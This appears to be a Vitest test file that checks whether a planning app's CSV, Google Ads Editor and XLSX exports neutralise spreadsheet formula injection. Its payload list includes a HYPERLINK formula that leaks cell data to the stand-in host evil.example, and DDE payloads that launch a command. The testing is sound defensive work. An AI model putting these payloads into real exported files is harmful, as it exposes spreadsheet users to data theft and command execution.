import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { DEFAULT_TAXONOMY } from '../../audiences/index.js'
import { buildAudienceExportInput, buildPlanExportInput } from '../../server/exports/export-input-build.js'
import { audienceExport, planExport } from '../../server/exports/export-formats.js'
import type { ExportFile } from '../../server/exports/export-file.js'
import { exportToBuffer } from './support/export-buffer.js'
import { villaAudience, villaPlanSource } from './support/villa-plan.js'

// OWASP "CSV Injection": a cell that starts with = + - @ tab or carriage return is read as a formula by Excel,
// LibreOffice and Google Sheets. These are the review's payloads, one per leading character.
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+2',
  '\r=1+2',
]
const FORMULA_START = /^[=+\-@\t\r]/

function hostilePlan(payload: string) {
  const source = villaPlanSource('en')
  const audience = {
    ...villaAudience(),
    name: payload,
    include: [...villaAudience().include, [{ facet: 'keyword' as const, value: payload }]],
  }
  return {
    ...source,
    planName: payload,
    clientName: payload,
    audiences: [{ name: payload, definition: audience }],
    lines: source.lines.map((line) => ({ ...line, audienceName: payload })),
  }
}

const csvCells = async (file: ExportFile): Promise<string[]> => {
  const { buffer } = await exportToBuffer(file)
  const rows = parse(buffer.toString('utf8'), { bom: true, relax_column_count: true }) as string[][]
  return rows.flat()
}

describe('CSV injection: every CSV kohde writes', () => {
  it.each(PAYLOADS)(
    'when names and keywords are %j, then no cell of any CSV export starts a formula',
    async (payload) => {
      const plan = buildPlanExportInput(hostilePlan(payload), DEFAULT_TAXONOMY)
      const audience = buildAudienceExportInput(
        { name: payload, definition: hostilePlan(payload).audiences[0]!.definition },
        DEFAULT_TAXONOMY,
      )
      const files = {
        'plan lines CSV': planExport('csv', plan),
        'plan Google Ads Editor CSV': planExport('google-ads-editor', plan),
        'audience Google Ads Editor CSV': audienceExport('google-ads-editor', audience),
      }

      for (const [what, file] of Object.entries(files)) {
        const cells = await csvCells(file)
        // The payload reached the file (else the test proves nothing) but only behind the apostrophe guard.
        expect(
          cells.some((c) => c.includes(payload.trim())),
          what,
        ).toBe(true)
        expect(
          cells.filter((c) => FORMULA_START.test(c)),
          what,
        ).toEqual([])
      }
    },
  )

  it('when a number is negative, then it stays a number (only text is guarded)', async () => {
    const plan = buildPlanExportInput(hostilePlan('-1'), DEFAULT_TAXONOMY)
    const cells = await csvCells(planExport('csv', plan))

    expect(cells).toContain("'-1")
  })
})

describe('formula injection: the XLSX workbook', () => {
  it.each(PAYLOADS)('when names are %j, then every cell holding them is text, never a formula', async (payload) => {
    const plan = buildPlanExportInput(hostilePlan(payload), DEFAULT_TAXONOMY)
    const { buffer } = await exportToBuffer(planExport('xlsx', plan))
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(buffer as unknown as ArrayBuffer)

    const types: number[] = []
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (String(cell.value).includes(payload.trim())) types.push(cell.type)
        }),
      ),
    )
    expect(types.length).toBeGreaterThan(0)
    expect(types.filter((t) => t !== ExcelJS.ValueType.String)).toEqual([])
  })
})
